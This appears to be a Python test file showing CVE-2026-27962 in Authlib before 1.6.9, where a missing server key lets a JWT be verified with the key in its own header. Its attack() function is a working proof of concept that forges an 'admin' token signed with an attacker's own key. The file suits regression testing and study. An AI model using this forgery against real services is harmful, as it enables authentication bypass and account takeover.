"""The token brings the key that it is to be verified with.

The service looks its keys up by name and passes on the None that it gets
for an unknown one.  Authlib before 1.6.9 then took the key in the
token's own header, which the attacker wrote.  CVE-2026-27962.
"""

import json

from authlib.jose import JsonWebSignature
from authlib.jose.errors import JoseError
from by_hand import KEYS, TOKENS, edit

REFUSALS = (
    JoseError,
    (AttributeError, "'NoneType' object has no attribute 'startswith'"),
)
"""The fixed release stumbles over the missing key, and lets nobody in."""

KNOWN = {"main": KEYS["rsa_public"]}


def enters(token: str, kid: str) -> str:
    verified = JsonWebSignature().deserialize_compact(token, KNOWN.get(kid))
    return json.loads(verified["payload"])["sub"]


def honest() -> bool:
    return enters(TOKENS["RS256"], "main") == "alice"


def edited() -> bool:
    return enters(edit(TOKENS["RS256"]), "main") == "admin"


def attack() -> bool:
    header = {
        "alg": "RS256",
        "jwk": json.loads(KEYS["mallory_jwk"]),
    }
    forged = JsonWebSignature().serialize_compact(
        header, b'{"sub": "admin"}', KEYS["mallory"]
    )
    return enters(forged.decode(), "unknown") == "admin"
